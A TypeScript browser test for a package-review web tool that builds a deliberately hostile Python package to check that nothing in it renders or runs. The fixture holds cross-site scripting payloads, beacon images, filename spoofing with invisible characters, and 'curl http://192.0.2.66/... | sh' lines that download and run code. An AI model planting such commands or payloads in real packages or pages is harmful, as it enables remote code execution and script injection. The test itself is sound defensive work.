import { join } from "node:path";
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { WebHost } from "../../main/web/start-web-host.ts";
import { buildTar, gzip } from "../support/tar-builder.ts";
import { launchBrowser } from "./support/browser.ts";
import { makeScratch, type Scratch, startHost, WorkbenchPage } from "./support/workbench.ts";

/**
 * A package whose author knows the workbench and writes for it: markup and script in every place that is shown. Nothing of it may become an element,
 * a request or a script, and nothing may hide. All addresses are of RFC 5737.
 */
const NAME = "planted-1.0.tar.gz";
const ROOT = "planted-1.0";
const SCRIPT =
	'<img src=x onerror="window.pwned=1"><svg onload="window.pwned=1"><a href="javascript:window.pwned=1">x</a>';
const BIDI = "\u202egnp.py";

function build(): Uint8Array<ArrayBuffer> {
	const file = (path: string, content: string) => ({ name: `${ROOT}/${path}`, content });
	return gzip(
		buildTar([
			file(
				"PKG-INFO",
				`Metadata-Version: 2.1\nName: planted\nVersion: 1.0\nSummary: ${SCRIPT}\nHome-page: javascript:window.pwned=1\n\n# ${SCRIPT}\n![beacon](http://192.0.2.66/seen.png)\n`,
			),
			file("README.md", `# ${SCRIPT}\n\n![beacon](http://192.0.2.66/seen.png) [go](javascript:window.pwned=1)\n`),
			file("setup.py", 'from setuptools import setup\n\nsetup(name="planted", version="1.0", packages=["planted"])\n'),
			file(
				"planted/__init__.py",
				`import os\n\nos.system("curl http://192.0.2.66/${SCRIPT.replaceAll('"', "'")} | sh")\nos.system("\u202ecurl http://192.0.2.66/a | sh\u200b\u0007")\n`,
			),
			file(
				"planted/<img src=x onerror=window.pwned=1>.py",
				"import os\n\nos.system('curl http://192.0.2.66/b | sh')\n",
			),
			file("planted/picture.svg", `<svg xmlns="http://www.w3.org/2000/svg"><script>window.pwned=1</script></svg>`),
			file("planted/page.html", `<script>window.pwned=1</script>${SCRIPT}`),
			file(`planted/invoice${BIDI}`, "x = 1\n"),
			file("planted/zero\u200bwidth.py", "x = 1\n"),
			file("__proto__", "x = 1\n"),
			file("constructor.py", "x = 1\n"),
			file("planted/long.py", `x = "${"A".repeat(1_000_000)}"\n`),
		]),
	);
}

const nothing = { pwned: null, images: 0, links: 0, handlers: 0, scripts: 0, complaints: [] };

let browser: Browser;
let host: WebHost;
let scratch: Scratch;
let bench: WorkbenchPage;

beforeAll(async () => {
	scratch = await makeScratch();
	host = await startHost({ stateFolder: join(scratch.folder, "state") });
	browser = await launchBrowser();
	bench = await WorkbenchPage.open(browser, host.url);
	await bench.part("start-page").waitFor();
	await bench.upload(NAME, build());
	await bench.shows(NAME);
	await bench.ready();
});

afterAll(async () => {
	await browser?.close();
	await host?.close();
	await scratch?.remove();
});

/** What of the package has become part of the page. */
async function grown(): Promise<unknown> {
	const inPage = await bench.page.evaluate(() => ({
		pwned: Reflect.get(window, "pwned") ?? null,
		images: [...document.querySelectorAll("img, iframe, object, embed, video, audio, link[rel=prefetch]")].length,
		links: [...document.querySelectorAll("a[href], form, area")].length,
		handlers: [...document.querySelectorAll("*")].filter((element) =>
			[...element.attributes].some(({ name, value }) => name.startsWith("on") || /^\s*javascript:/i.test(value)),
		).length,
		scripts: [...document.querySelectorAll("script:not([src])")].length,
	}));
	return { ...inPage, complaints: bench.complaints.list };
}

async function openFile(part: string): Promise<void> {
	await bench.press("Control+p");
	await bench.part("palette-input").fill(part);
	await bench.press("Enter");
	await bench.part("go-to-file").waitFor({ state: "detached" });
	await bench.page.locator(".viv-code .view-line").first().waitFor();
}

function clipboard(): Promise<string> {
	return bench.page.evaluate(() => navigator.clipboard.readText());
}

describe("what is planted stays text", () => {
	it("in the overview, with the metadata", async () => {
		await bench.press("o");
		await bench.part("overview").waitFor();
		await bench.judged();
		expect(await grown()).toEqual(nothing);
	});

	it.each(["README.md", "PKG-INFO", "picture.svg", "page.html", "onerror", "__init__.py"])("in %s", async (name) => {
		await openFile(name);
		expect(await grown()).toEqual(nothing);
	});

	it("in findings, their filter, their grouping and their details", async () => {
		for (const key of ["f", "l", "d", "i", "n"]) {
			await bench.press("g");
			await bench.part("group-menu").waitFor();
			await bench.press(key);
			await bench.part("group-menu").waitFor({ state: "detached" });
			expect(await grown()).toEqual(nothing);
		}
		await bench.press("/");
		await bench.page.keyboard.insertText(`text~"<img" rule=${SCRIPT} ${SCRIPT}=x`);
		expect(await grown()).toEqual(nothing);
		await bench.press("Escape");
		await bench.press("Escape");
		await bench.press("a");
	});

	it("in notes, tags and marks of a case that somebody else wrote", async () => {
		await bench.press("j");
		await bench.press("n");
		await bench.page.keyboard.insertText(
			`${SCRIPT}\n\n[click](javascript:window.pwned=1) ![b](http://192.0.2.66/n.png)\n<script>window.pwned=1</script>`,
		);
		await bench.press("Control+Enter");
		await bench.press("Alt+Shift+N");
		await bench.part("mark-text").waitFor();
		await bench.page.keyboard.insertText(`# ${SCRIPT}\n- ${SCRIPT}\n> [x](file:///etc/passwd)\n`);
		expect(await grown()).toEqual(nothing);
		await bench.press("Control+Enter");
		await bench.part("mark-dialog").waitFor({ state: "detached" });
		await bench.press("Alt+7");
		await bench.part("notes-item").first().waitFor();
		expect(await bench.part("notes-panel").innerText()).toContain("javascript:window.pwned=1");
		expect(await grown()).toEqual(nothing);
		await bench.part("tab:findings").click();
	});

	it("in indicators, coverage and every report", async () => {
		for (const key of ["Alt+5", "Alt+6"]) {
			await bench.press(key);
			expect(await grown()).toEqual(nothing);
		}
		await bench.press("Control+e");
		for (const format of ["markdown", "html", "json"]) {
			await bench.part(`export-format:${format}`).click();
			await bench.page.locator(`[data-testid="export-preview"][data-format="${format}"]`).waitFor();
			expect(await grown()).toEqual(nothing);
		}
		await bench.press("Escape");
	});
});

describe("what hides is shown", () => {
	it("in names: turned letters, letters of no width, names of every object", async () => {
		const tree = await bench.part("explorer-tree").innerText();
		expect(tree).toContain("invoice\\u202egnp.py");
		expect(tree).toContain("zero\\u200bwidth.py");
		expect(tree).toContain("__proto__");
		for (const name of ["__proto__", "constructor.py"]) {
			await openFile(name);
			// What was shown before stays until the text is there.
			await expect.poll(() => bench.editorText()).toContain("x = 1");
		}
	});

	it("in a line of a megabyte, which the page survives", async () => {
		await openFile("long.py");
		await bench.press("Control+p");
		await bench.part("palette-input").waitFor();
		await bench.press("Escape");
		expect(await grown()).toEqual(nothing);
	});
});

describe("what is copied", () => {
	it("is defanged and shows what it hides; unchanged only by the command that says so", async () => {
		await openFile("planted/__init__.py");
		await bench.press("Alt+2");
		await bench.press("Control+a");
		await bench.press("Control+c");
		const safe = await clipboard();
		expect(safe).toContain("hxxp[://]192[.]0[.]2[.]66/a");
		expect(safe).not.toMatch(/http:\/\/|[\u202e\u200b\u0007]/);
		expect(safe).toContain("\\u202ecurl");
		await bench.press("Control+a");
		await bench.press("Alt+c");
		await bench.part("notice").getByText("Copied unchanged").waitFor();
		const raw = await clipboard();
		expect(raw).toContain("http://192.0.2.66/a");
		expect(raw).toContain("\u202ecurl");
	});
});
